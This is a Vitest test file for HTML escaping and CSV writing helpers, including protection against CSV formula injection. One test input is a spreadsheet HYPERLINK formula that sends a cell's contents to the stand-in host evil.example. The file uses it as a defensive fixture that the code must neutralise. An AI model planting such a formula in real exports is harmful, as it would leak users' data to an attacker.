import { describe, expect, it } from 'vitest';
import { toCsv } from '../../../functions/core/export-package.ts';
import { csvCell, csvLines, escapeHtml } from '../../../functions/core/text.ts';

describe('escapeHtml', () => {
  it('escapes the five characters that end text or a quoted attribute', () => {
    expect(escapeHtml(`<a href="x" title='y'>&</a>`)).toBe('&#60;a href=&#34;x&#34; title=&#39;y&#39;&#62;&#38;&#60;/a&#62;');
  });
});

describe('csvCell', () => {
  it('leaves plain values as they are and writes nothing for null and undefined', () => {
    expect([csvCell('PAY-1001'), csvCell(12.5), csvCell(true), csvCell(null), csvCell(undefined)]).toEqual(['PAY-1001', '12.5', 'true', '', '']);
  });

  it('quotes a cell holding a comma, a quote, a line feed or a carriage return', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('line\nbreak')).toBe('"line\nbreak"');
    expect(csvCell('line\rbreak')).toBe('"line\rbreak"');
  });

  it('keeps a spreadsheet from reading a text cell as a formula (CSV injection): a quote before =, +, -, @, a tab or a carriage return', () => {
    expect(csvCell('=HYPERLINK("https://evil.example/?d="&B2,"Open")')).toBe('"\'=HYPERLINK(""https://evil.example/?d=""&B2,""Open"")"');
    expect(['+441632960000', '-2+3', '@SUM(A1)', '\tx', '\rx'].map(csvCell)).toEqual(["'+441632960000", "'-2+3", "'@SUM(A1)", "'\tx", '"\'\rx"']);
    // Numbers are numbers: a negative amount stays as it is.
    expect(csvCell(-12.5)).toBe('-12.5');
    expect(toCsv([{ note: '=1+1' }])).toBe("note\r\n'=1+1\r\n");
  });

  it('writes objects as JSON, quoted', () => {
    expect(csvCell({ sku: 'RAM-16', qty: 2 })).toBe('"{""sku"":""RAM-16"",""qty"":2}"');
  });
});

describe('csvLines and the export package CSV', () => {
  it('ends every line with CRLF', () => {
    expect(csvLines([['a', 'b'], [1, 'x,y']])).toBe('a,b\r\n1,"x,y"\r\n');
  });

  it('writes one column per key seen, through the same cell rules as the audit CSV', () => {
    expect(toCsv([{ id: 'A', note: 'x\ny' }, { id: 'B', amount: 3 }])).toBe('id,note,amount\r\nA,"x\ny",\r\nB,,3\r\n');
  });
});
